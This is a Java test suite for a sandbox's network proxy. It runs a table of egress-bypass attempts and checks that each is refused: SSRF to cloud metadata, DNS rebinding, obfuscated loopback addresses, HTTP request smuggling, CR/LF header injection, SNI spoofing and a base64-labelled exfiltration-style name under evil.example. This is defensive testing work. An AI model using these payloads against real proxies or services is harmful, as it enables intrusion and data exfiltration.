package dev.countersign.network.proxy;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.countersign.network.Connection;
import dev.countersign.network.HostRule;
import dev.countersign.network.NetworkRules;
import dev.countersign.network.Objections;
import dev.countersign.sandbox.Command;
import dev.countersign.sandbox.Conversation;
import dev.countersign.sandbox.Level;
import dev.countersign.sandbox.Limits;
import dev.countersign.sandbox.Network;
import dev.countersign.sandbox.Outcome;
import dev.countersign.sandbox.OutputListener;
import dev.countersign.sandbox.Profile;
import dev.countersign.sandbox.local.LocalSandbox;
import dev.countersign.workspace.Progress;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.channels.ServerSocketChannel;
import java.nio.file.attribute.PosixFilePermissions;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/// Attacks on the way to the network, each from inside the sandbox of the top level, with names that lead where the attacker wants.
@EnabledOnOs(value = OS.LINUX, disabledReason = "the sandbox is that of Linux")
@Timeout(90)
class NetworkBatteryTest {
    private static final String PYTHON = "/usr/bin/python3";
    private static final String AROUND = "around the proxy";
    private static final String SOCKET = "the socket itself instead of its port";
    private static final String PUBLIC = "93.184.216.34";
    private static final LocalSandbox SANDBOX = new LocalSandbox(Path.of("target/tmp/network-scratch").toAbsolutePath(), new SecureRandom());
    private static final ProxyLimits LIMITS = new ProxyLimits(8, 4 << 20, Duration.ofMillis(1500), Duration.ofSeconds(5), Duration.ofSeconds(3),
            Duration.ofSeconds(20));

    @TempDir
    private Path temp;
    private Path stage;
    private Internet internet;
    private Path sockets;
    private final List<Connection> heard = Collections.synchronizedList(new ArrayList<>());

    @BeforeEach
    void open() throws IOException {
        assumeTrue(Files.isExecutable(Path.of(PYTHON)), "the attacks are in Python, which is not installed");
        assumeTrue(SANDBOX.selfTest().best() == Level.L3, () -> "no L3 here: " + SANDBOX.selfTest().attempts());
        stage = Files.createDirectory(temp.toRealPath().resolve("stage"));
        try (InputStream in = NetworkBatteryTest.class.getResourceAsStream("asks.py")) {
            Files.copy(in, stage.resolve("asks.py"));
        }
        sockets = Path.of("/tmp", "cs-net-" + ProcessHandle.current().pid());
        internet = world();
    }

    private static Internet world() throws IOException {
        return new Internet().name("good.example", List.of(PUBLIC)).name("a.wide.example", List.of(PUBLIC))
                .name("rebind.example", List.of(PUBLIC), List.of("127.0.0.1")).name("inner.example", List.of("127.0.0.1"))
                .name("mixed.example", List.of(PUBLIC, "10.0.0.1")).name("meta.example", List.of("169.254.169.254"))
                .name("meta6.example", List.of("fd00:ec2::254")).name("nat.example", List.of("64:ff9b::7f00:1"))
                .name("six.example", List.of("2002:7f00:1::")).name("evil.example", List.of("93.184.216.66"));
    }

    @AfterEach
    void close() throws IOException {
        internet.close();
        Files.deleteIfExists(sockets);
    }

    private static NetworkRules rules(String... texts) {
        return new NetworkRules(Stream.of(texts).map(HostRule::parse).toList());
    }

    /// The rules deny what the allow-list lets through.
    private static final Objections DENIED = (host, port) -> host.equals("denied.wide.example") ? Optional.of(host + ":" + port + " is denied by the rule mine: no.")
            : Optional.empty();

    private static final NetworkRules RULES = rules("good.example", "*.wide.example", "rebind.example", "inner.example", "mixed.example",
            "meta.example", "meta6.example", "nat.example", "six.example", "gone.example");

    private String inside(NetworkRules rules, ProxyLimits limits, String expression) throws IOException {
        var out = new ByteArrayOutputStream();
        var err = new ByteArrayOutputStream();
        var gateway = new UnixGateway(sockets, internet, limits, InstantSource.system(), new SecureRandom());
        try (var passage = gateway.open(rules, List.of(), DENIED, heard::add)) {
            Outcome outcome = SANDBOX.run(new Command(List.of(PYTHON, "asks.py", expression), stage, new TreeMap<>(Map.of("PATH", "/usr/bin:/bin")),
                    new byte[0]), new Profile(Level.L3, List.of(stage), List.of(), new Network.Through(passage.socket())),
                    new Limits(Duration.ofSeconds(40), 1 << 20), (stream, chunk) -> (stream == OutputListener.Stream.OUT ? out : err).writeBytes(chunk),
                    Progress.NONE);
            assertThat(outcome).as(err.toString(UTF_8)).isInstanceOfSatisfying(Outcome.Exited.class, e -> assertThat(e.code()).as(err.toString(UTF_8)).isZero());
        }
        return out.toString(UTF_8).strip();
    }

    /// @param expression in Python, see asks.py
    /// @param told       what the program is told
    /// @param dialled    every address that was connected to
    record Attack(String name, String expression, String told, List<String> dialled) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Attack in(String name, String expression, String told) {
        return new Attack(name, expression, told, List.of());
    }

    private static Attack out(String name, String expression, String told, String... dialled) {
        return new Attack(name, expression, told, List.of(dialled));
    }

    static Stream<Attack> attacks() {
        String plain = PUBLIC + ":80";
        String tls = PUBLIC + ":443";
        return Stream.of(
                // What is meant to work, or the others would say nothing.
                out("an allowed tunnel", "tunnel('good.example:443')", "200 reached", tls),
                out("an allowed request", "ask(request('http://good.example/x'))", "200 reached", plain),
                out("capital letters", "tunnel('GOOD.Example:443', hello('good.EXAMPLE'))", "200 reached", tls),
                out("a name below a star", "tunnel('a.wide.example:443')", "200 reached", tls),
                out("a greeting in many records", "tunnel('good.example:443', records(hello('good.example'), 7))", "200 reached", tls),
                out("a body in chunks", "ask(request('http://good.example/x', method='POST', fields='Transfer-Encoding: chunked\\r\\n', "
                        + "body=b'3\\r\\nend\\r\\n0\\r\\n\\r\\n'))", "200 reached", plain),
                // Other names.
                in("another name", "tunnel('evil.example:443')", "403 not_allowed"),
                in("a name that begins like it", "tunnel('good.example.evil.example:443')", "403 not_allowed"),
                in("a name that ends like it", "tunnel('evilgood.example:443')", "403 not_allowed"),
                in("the name at the star", "tunnel('wide.example:443')", "403 not_allowed"),
                in("a name that ends like the star's", "tunnel('evilwide.example:443')", "403 not_allowed"),
                in("a name below one without a star", "tunnel('a.good.example:443')", "403 not_allowed"),
                in("a final dot", "tunnel('good.example.:443')", "400 malformed"),
                in("letters of another alphabet", "tunnel('g\\u043e\\u043ed.example:443', b'')", "400 malformed"),
                in("a letter whose small form is ASCII", "tunnel('', b'', raw='CONNECT good.example\\u212a:443 HTTP/1.1\\r\\n\\r\\n'.encode())", "400 malformed"),
                in("the name in Punycode", "tunnel('xn--gd-mmca.example:443')", "403 not_allowed"),
                in("a percent sign", "tunnel('good%2eexample:443')", "400 malformed"),
                in("an underscore", "tunnel('_good.example:443')", "400 malformed"),
                in("no name", "tunnel(':443')", "400 malformed"),
                in("a name that does not exist", "tunnel('gone.example:443')", "502 unreachable"),
                in("a name that a rule denies", "tunnel('denied.wide.example:443')", "403 not_allowed"),
                in("a request to it", "ask(request('http://denied.wide.example/x'))", "403 not_allowed"),
                in("its name in capital letters", "tunnel('DENIED.Wide.example:443')", "403 not_allowed"),
                // Other ports.
                in("the port of mail", "tunnel('good.example:25')", "403 not_allowed"),
                in("a port of nobody", "tunnel('good.example:8443')", "403 not_allowed"),
                in("a port with a zero before it", "tunnel('good.example:0443')", "400 malformed"),
                in("a port that is too large", "tunnel('good.example:65979')", "400 malformed"),
                in("no port", "tunnel('good.example')", "400 malformed"),
                // Addresses in all notations.
                in("an address", "tunnel('93.184.216.34:443')", "403 not_allowed"),
                in("an address as one number", "tunnel('2130706433:443')", "400 malformed"),
                in("an address in octal", "tunnel('0177.0.0.1:443')", "400 malformed"),
                in("an address in hexadecimal", "tunnel('0x7f000001:443')", "400 malformed"),
                in("an address in mixed notation", "tunnel('127.0.0x1:443')", "400 malformed"),
                in("a short address", "tunnel('127.1:443')", "400 malformed"),
                in("loopback", "ask(request('http://127.0.0.1:%d/' % PORT))", "403 not_allowed"),
                in("loopback in IPv6", "tunnel('[::1]:443')", "403 not_allowed"),
                in("an IPv4 address inside an IPv6 one", "tunnel('[::ffff:127.0.0.1]:443')", "400 malformed"),
                in("the same in hexadecimal", "tunnel('[::ffff:7f00:1]:443')", "400 malformed"),
                in("an IPv6 address with a zone", "tunnel('[fe80::1%25eth0]:443')", "400 malformed"),
                in("the address of a cloud's metadata", "ask(request('http://169.254.169.254/latest/meta-data/'))", "403 not_allowed"),
                in("the host that means any", "tunnel('0.0.0.0:443')", "403 not_allowed"),
                // Allowed names that lead elsewhere.
                in("a name that leads to loopback", "tunnel('inner.example:443')", "403 address"),
                in("a name that leads to metadata", "ask(request('http://meta.example/'))", "403 address"),
                in("a name that leads to metadata in IPv6", "ask(request('http://meta6.example/'))", "403 address"),
                in("a name that leads through NAT64", "ask(request('http://nat.example/'))", "403 address"),
                in("a name that leads through 6to4", "ask(request('http://six.example/'))", "403 address"),
                in("a name with one private address among others", "tunnel('mixed.example:443')", "403 address"),
                out("a name that is bound anew", "tunnel('rebind.example:443') + ', ' + tunnel('rebind.example:443')", "200 reached, 403 address", tls),
                // Two readings of one request.
                in("two hosts in a request", "ask(request('http://good.example/', 'evil.example'))", "400 malformed"),
                in("two hosts for a tunnel", "tunnel('good.example:443', host='evil.example:443')", "400 malformed"),
                in("two lines with a host", "ask(request('http://good.example/', fields='Host: evil.example\\r\\n'))", "400 malformed"),
                in("no host", "ask(b'GET http://good.example/ HTTP/1.1\\r\\n\\r\\n')", "400 malformed"),
                in("a user before the host", "ask(request('http://good.example@evil.example/', 'evil.example'))", "400 malformed"),
                in("a user before the host of a tunnel", "tunnel('good.example@evil.example:443')", "400 malformed"),
                in("a backslash", "ask(request('http://good.example\\\\@evil.example/', 'good.example'))", "400 malformed"),
                in("another scheme", "ask(request('ftp://good.example/'))", "400 malformed"),
                in("TLS by the proxy", "ask(request('https://good.example/'))", "400 malformed"),
                in("a null byte in the name", "tunnel('good.example\\0.evil.example:443')", "400 malformed"),
                in("a null byte in a field", "ask(request('http://good.example/', fields='X: a\\0b\\r\\n'))", "400 malformed"),
                in("a line that ends in LF alone", "ask(request('http://good.example/', fields='X: a\\nHost: evil.example\\r\\n'))", "400 malformed"),
                in("a line that ends in CR alone", "ask(request('http://good.example/', fields='X: a\\rHost: evil.example\\r\\n'))", "400 malformed"),
                in("a line break in the target", "ask(b'GET http://good.example/ HTTP/1.1\\r\\nX: y HTTP/1.1\\r\\n\\r\\n')", "400 malformed"),
                in("a folded line", "ask(request('http://good.example/', fields='X: a\\r\\n b\\r\\n'))", "400 malformed"),
                in("a space before the colon", "ask(request('http://good.example/', fields='Content-Length : 3\\r\\n'))", "400 malformed"),
                in("a length and chunks", "ask(request('http://good.example/', method='POST', "
                        + "fields='Content-Length: 3\\r\\nTransfer-Encoding: chunked\\r\\n', body=b'0\\r\\n\\r\\n'))", "400 malformed"),
                in("two lengths", "ask(request('http://good.example/', method='POST', fields='Content-Length: 3\\r\\nContent-Length: 4\\r\\n', body=b'end'))",
                        "400 malformed"),
                in("a length with a sign", "ask(request('http://good.example/', method='POST', fields='Content-Length: +3\\r\\n', body=b'end'))", "400 malformed"),
                in("a coding that is almost chunked", "ask(request('http://good.example/', method='POST', "
                        + "fields='Transfer-Encoding: xchunked\\r\\n', body=b'0\\r\\n\\r\\n'))", "400 malformed"),
                in("chunks twice", "ask(request('http://good.example/', method='POST', "
                        + "fields='Transfer-Encoding: chunked, identity\\r\\n', body=b'0\\r\\n\\r\\n'))", "400 malformed"),
                in("the preface of HTTP/2", "ask(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')", "400 malformed"),
                in("the oldest HTTP", "ask(b'GET http://good.example/\\r\\n')", "400 malformed"),
                in("a head without end", "ask(b'GET http://good.example/ HTTP/1.1\\r\\n' + b'X: ' + b'a' * 40000)", "413 large"),
                in("a body for a tunnel", "tunnel('', raw=b'CONNECT good.example:443 HTTP/1.1\\r\\nHost: good.example:443\\r\\nContent-Length: 3\\r\\n\\r\\nend')",
                        "400 malformed"),
                in("a path alone", "ask(b'GET /secrets HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n')", "403 not_allowed"),
                // Disguises inside a tunnel: nothing that the program sent arrives.
                out("TLS for another host", "tunnel('good.example:443', hello('evil.example'))", "200 closed", tls),
                out("TLS for another host in many records", "tunnel('good.example:443', records(hello('evil.example'), 5))", "200 closed", tls),
                out("TLS for no host", "tunnel('good.example:443', hello(None))", "200 closed", tls),
                out("plain HTTP in a tunnel", "tunnel('good.example:443', b'GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n')", "200 closed", tls),
                out("SSH in a tunnel", "tunnel('good.example:443', b'SSH-2.0-OpenSSH_9.6\\r\\n')", "200 closed", tls),
                out("HTTP/2 in a tunnel without TLS", "tunnel('good.example:443', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')", "200 closed", tls),
                out("a greeting with no end", "tunnel('good.example:443', b'\\x16\\x03\\x01\\x40\\x00\\x01\\xff\\xff\\xff' + b'a' * 16377)", "200 closed", tls),
                // Around the proxy.
                in("a socket " + AROUND, "socket.socket().connect_ex(('93.184.216.34', 443))", "101"),
                in("a datagram " + AROUND, "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect_ex(('8.8.8.8', 53))", "101"),
                in("IPv6 " + AROUND, "socket.socket(socket.AF_INET6).connect_ex(('2606:2800:220:1:248:1893:25c8:1946', 443)) in (101, 99, 113)", "True"),
                in(SOCKET, "(lambda s: (s.connect('/run/countersign/proxy.sock'), "
                        + "s.sendall(b'CONNECT evil.example:443 HTTP/1.1\\r\\nHost: evil.example:443\\r\\n\\r\\n'), told(rest(s)))[2])(socket.socket(socket.AF_UNIX))",
                        "403 not_allowed"));
    }

    /// One program inside carries out one attack after the other: all that is shared is the sandbox.
    @TestFactory
    Stream<DynamicTest> isHeld() throws Exception {
        return isHeld(Level.L3, attacks());
    }

    /// The proxy's socket is not there; only the port that stands for it.
    @TestFactory
    Stream<DynamicTest> isHeldWithoutARootOfItsOwn() throws Exception {
        assumeTrue(SANDBOX.selfTest().attempts().stream().anyMatch(a -> a.level() == Level.L2 && a.holds()), "no L2 here");
        return isHeld(Level.L2, attacks().filter(attack -> !attack.name.equals(SOCKET)));
    }

    private Stream<DynamicTest> isHeld(Level level, Stream<Attack> attacks) throws Exception {
        var gateway = new UnixGateway(sockets, Internet.switchboard(() -> internet), LIMITS, InstantSource.system(), new SecureRandom());
        var passage = gateway.open(RULES, List.of(), DENIED, heard::add);
        var talk = new Talk();
        Thread running = Thread.ofVirtual().start(() -> talk.ended(SANDBOX.run(new Command(List.of(PYTHON, "asks.py"), stage,
                new TreeMap<>(Map.of("PATH", "/usr/bin:/bin")), new byte[0]), new Profile(level, List.of(stage), List.of(),
                new Network.Through(passage.socket())), new Limits(Duration.ofSeconds(120), 1 << 20), talk, Progress.NONE)));
        return attacks.map(attack -> DynamicTest.dynamicTest(attack.name, () -> {
            internet.close();
            internet = world();
            heard.clear();
            held(attack, talk.ask(attack.expression));
        })).onClose(() -> {
            talk.end();
            join(running);
            passage.close();
        });
    }

    /// Lines to the program inside, and its answers.
    private static final class Talk implements Conversation {
        private static final String END = "";
        private final BlockingQueue<String> asked = new LinkedBlockingQueue<>();
        private final BlockingQueue<String> answered = new LinkedBlockingQueue<>();
        private final StringBuilder pending = new StringBuilder();
        private final ByteArrayOutputStream errors = new ByteArrayOutputStream();
        private volatile Optional<Outcome> outcome = Optional.empty();

        @Override
        public void speak(OutputStream stdin) throws IOException {
            try {
                for (String line = asked.take(); !line.equals(END); line = asked.take()) {
                    stdin.write((line + "\n").getBytes(UTF_8));
                    stdin.flush();
                }
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }

        @Override
        public void output(Stream stream, byte[] chunk) {
            if (stream == Stream.ERR) {
                errors.writeBytes(chunk);
                return;
            }
            pending.append(new String(chunk, UTF_8));
            for (int end = pending.indexOf("\n"); end >= 0; end = pending.indexOf("\n")) {
                answered.add(pending.substring(0, end));
                pending.delete(0, end + 1);
            }
        }

        String ask(String expression) throws InterruptedException {
            Optional<Outcome> already = outcome;
            if (already.isPresent()) {
                return "the program has ended: " + already.get() + errors.toString(UTF_8);
            }
            asked.add(expression);
            return String.valueOf(answered.poll(30, TimeUnit.SECONDS));
        }

        void ended(Outcome with) {
            outcome = Optional.of(with);
            answered.add("the program has ended: " + with + errors.toString(UTF_8));
        }

        void end() {
            asked.add(END);
        }
    }

    private static void join(Thread thread) {
        try {
            assertThat(thread.join(Duration.ofSeconds(20))).isTrue();
        } catch (InterruptedException e) {
            throw new IllegalStateException(e);
        }
    }

    private void held(Attack attack, String told) throws InterruptedException {
        assertThat(told).isEqualTo(attack.told);
        long connections = attack.told.chars().filter(c -> c == ',').count() + 1;
        // The program is answered before the account of its connection is closed.
        for (int i = 0; i < 100 && heard.size() < connections && !attack.name.contains(AROUND); i++) {
            Thread.sleep(50);
        }

        assertThat(internet.dialled()).isEqualTo(attack.dialled);
        assertThat(heard.stream().filter(c -> !c.address().isEmpty()).map(c -> c.address() + ":" + c.port())).containsExactlyElementsOf(attack.dialled);
        if (attack.told.equals("200 closed")) {
            assertThat(internet.arrived()).as("nothing of what was sent arrives").allMatch(String::isEmpty);
        }
        if (attack.told.startsWith("4") || attack.told.startsWith("5") || attack.told.equals("200 closed")) {
            assertThat(heard).singleElement().satisfies(c -> {
                assertThat(c.allowed()).isFalse();
                assertThat(c.rule()).isNotEmpty();
            });
        }
    }

    @Test
    void aNameIsLookedUpOnceForEachConnection() throws IOException {
        inside(RULES, LIMITS, "tunnel('rebind.example:443')");

        assertThat(internet.looked()).containsExactly("rebind.example");
    }

    @Test
    void whatIsRefusedByNameIsNotLookedUp() throws IOException {
        inside(RULES, LIMITS, "tunnel('c2VjcmV0.evil.example:443')");

        assertThat(internet.looked()).isEmpty();
    }

    @Test
    void aRedirectToAnotherHostIsFollowedByTheProgramAndRefused() throws IOException {
        String told = inside(RULES, LIMITS, """
                urllib.request.build_opener(urllib.request.ProxyHandler({'http': 'http://127.0.0.1:%d' % PORT}),
                    type('E', (urllib.request.HTTPDefaultErrorHandler,), {'http_error_default': lambda self, q, f, code, m, h: f}))
                    .open('http://good.example/redirect').status
                """.replace("\n", " ").strip());

        assertThat(told).isEqualTo("403");
        assertThat(internet.dialled()).containsExactly(PUBLIC + ":80");
        assertThat(heard).extracting(Connection::host, Connection::allowed).containsExactly(org.assertj.core.groups.Tuple.tuple("good.example", true),
                org.assertj.core.groups.Tuple.tuple("evil.example", false));
    }

    @Test
    void aSecondRequestBehindTheFirstIsNotPassedOn() throws IOException {
        String told = inside(RULES, LIMITS, "ask(request('http://good.example/x', method='POST', fields='Content-Length: 3\\r\\n', body=b'end') "
                + "+ request('http://evil.example/smuggled'))");

        assertThat(told).isEqualTo("200 reached");
        assertThat(internet.arrived()).singleElement().satisfies(text -> assertThat(text).endsWith("\r\n\r\nend").doesNotContain("smuggled"));
    }

    @Test
    void fieldsOfTheConnectionStayHere() throws IOException {
        inside(RULES, LIMITS, "ask(request('http://good.example/x?q=1', fields='Connection: Upgrade, X-Mine\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAA\\r\\n"
                + "X-Mine: a\\r\\nX-Kept: b\\r\\nProxy-Authorization: Basic eA==\\r\\n'))");

        assertThat(internet.arrived()).containsExactly("GET /x?q=1 HTTP/1.1\r\nHost: good.example\r\nx-kept: b\r\nConnection: close\r\n\r\n");
    }

    @Test
    void whoSendsSlowlyIsCutOff() throws IOException {
        String told = inside(RULES, LIMITS, "(lambda s: ([(s.send(b'G'), time.sleep(0.2)) for i in range(4)], told(rest(s)))[1])(connect())");

        assertThat(told).isEqualTo("closed");
        assertThat(heard).singleElement().satisfies(c -> assertThat(c.rule()).isEqualTo("ended: nothing whole was asked within 1500 ms"));
    }

    @Test
    void aTunnelWithoutAGreetingIsCutOff() throws IOException {
        assertThat(inside(RULES, LIMITS, "tunnel('good.example:443', b'\\x16')")).isEqualTo("200 closed");
        assertThat(internet.arrived()).containsExactly("");
    }

    @Test
    void aConnectionInWhichNothingMovesIsCutOff() throws IOException {
        assertThat(inside(RULES, LIMITS, "ask(request('http://good.example/hang'))")).isEqualTo("closed");
        assertThat(heard).singleElement().satisfies(c -> assertThat(c.rule()).isEqualTo("ended: nothing moved for 3 s"));
    }

    @Test
    void connectionsAtOneTimeAreLimited() throws IOException {
        assertThat(inside(RULES, LIMITS, "(lambda held: (time.sleep(0.5), ask(request('http://good.example/')))[1])([connect() for i in range(8)])"))
                .isEqualTo("503 busy");
    }

    @Test
    void bytesAreLimited() throws IOException {
        assertThat(inside(RULES, LIMITS, "(lambda s: (s.sendall(request('http://good.example/much')), len(rest(s)) <= 4 << 20)[1])(connect())")).isEqualTo("True");
        assertThat(heard).singleElement().satisfies(c -> assertThat(c.rule()).isEqualTo("ended: the call has moved 4 MiB, all that it may"));
    }

    @Test
    void portsOfThisMachineAreNotThere() throws IOException {
        try (var server = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            assertThat(inside(RULES, LIMITS, "socket.socket().connect_ex(('127.0.0.1', " + server.getLocalPort() + "))")).isEqualTo("111");
        }
    }

    @Test
    void anAddressOfThisMachineIsReachedWhereARuleNamesIt() throws IOException {
        NetworkRules named = rules("127.0.0.1:8081", "inner.example:8081");

        assertThat(inside(named, LIMITS, "ask(request('http://127.0.0.1:8081/')) + ', ' + ask(request('http://inner.example:8081/'))"
                + " + ', ' + ask(request('http://127.0.0.1:8082/'))")).isEqualTo("200 reached, 200 reached, 403 not_allowed");
        assertThat(internet.dialled()).containsExactly("127.0.0.1:8081", "127.0.0.1:8081");
    }

    @Test
    void theSocketCantBeReplaced() throws IOException {
        assertThat(inside(RULES, LIMITS, "os.access('/run/countersign', os.W_OK) or os.access('/run', os.W_OK)")).isEqualTo("False");
    }

    @Test
    void everyConnectionIsAccountedFor() throws IOException {
        inside(RULES, LIMITS, "ask(request('http://good.example/x'))");

        assertThat(heard).singleElement().satisfies(c -> assertThat(List.of(c.host(), c.port(), c.address(), c.allowed(), c.rule(), c.received()))
                .isEqualTo(List.of("good.example", 80, PUBLIC, true, "good.example", 64L)));
        assertThat(heard.getFirst().sent()).isEqualTo(internet.arrived().getFirst().length());
    }

    @Test
    void afterTheCallNothingIsLeft() throws IOException {
        inside(RULES, LIMITS, "tunnel('good.example:443')");

        try (var left = Files.list(sockets)) {
            assertThat(left).isEmpty();
        }
    }

    @Test
    void aSocketThatAKilledProcessLeftIsClearedAwayAndAServedOneStays() throws IOException {
        Files.createDirectories(sockets, PosixFilePermissions.asFileAttribute(PosixFilePermissions.fromString("rwx------")));
        Path left = sockets.resolve("net-left");
        try (var server = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            server.bind(UnixDomainSocketAddress.of(left));
        }
        Path served = sockets.resolve("net-served");
        try (var server = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
            server.bind(UnixDomainSocketAddress.of(served));
            var gateway = new UnixGateway(sockets, internet, LIMITS, InstantSource.system(), new SecureRandom());
            try (var _ = gateway.open(RULES, List.of(), Objections.NONE, heard::add)) {
                assertThat(left).doesNotExist();
                assertThat(served).exists();
            }
        } finally {
            Files.deleteIfExists(served);
        }
    }
}
